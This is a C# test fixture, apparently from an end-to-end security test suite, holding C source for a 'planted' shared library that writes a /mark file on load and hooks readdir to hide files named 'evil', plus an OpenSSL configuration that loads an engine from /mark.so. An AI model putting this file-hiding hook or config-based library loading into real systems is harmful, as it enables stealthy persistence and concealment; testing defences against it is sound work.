namespace EndToEnd.Tests;

/// <summary>A library that an attacker plants: it leaves a file <c>/mark</c> wherever it is loaded, and hides files whose names begin with "evil" from <c>readdir(3)</c>.
/// It needs no newer libc than the oldest device has.</summary>
internal static class PlantedLibrary
{
    public const string Source = """
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <fcntl.h>
        #include <string.h>
        #include <sys/syscall.h>
        #include <unistd.h>
        __attribute__((constructor)) static void mark(void) { int file = open("/mark", O_CREAT | O_WRONLY, 0600); if (file >= 0) close(file); }
        struct dirent *readdir(DIR *directory)
        {
            static char entries[65536];
            static long size, at;
            for (;;) {
                if (at >= size) {
                    at = 0;
                    size = syscall(SYS_getdents64, dirfd(directory), entries, sizeof entries);
                    if (size <= 0)
                        return 0;
                }
                struct dirent *entry = (struct dirent *)(entries + at);
                at += entry->d_reclen;
                if (strncmp(entry->d_name, "evil", 4))
                    return entry;
            }
        }
        struct dirent64 *readdir64(DIR *directory) { return (struct dirent64 *)readdir(directory); }
        """;

    /// <summary>An engine of OpenSSL is a library that its configuration names: this one, at <c>/mark.so</c>.</summary>
    public const string OpenSslConfiguration = """
        openssl_conf = begin
        [begin]
        engines = engines
        [engines]
        mark = mark
        [mark]
        dynamic_path = /mark.so
        init = 1

        """;
}
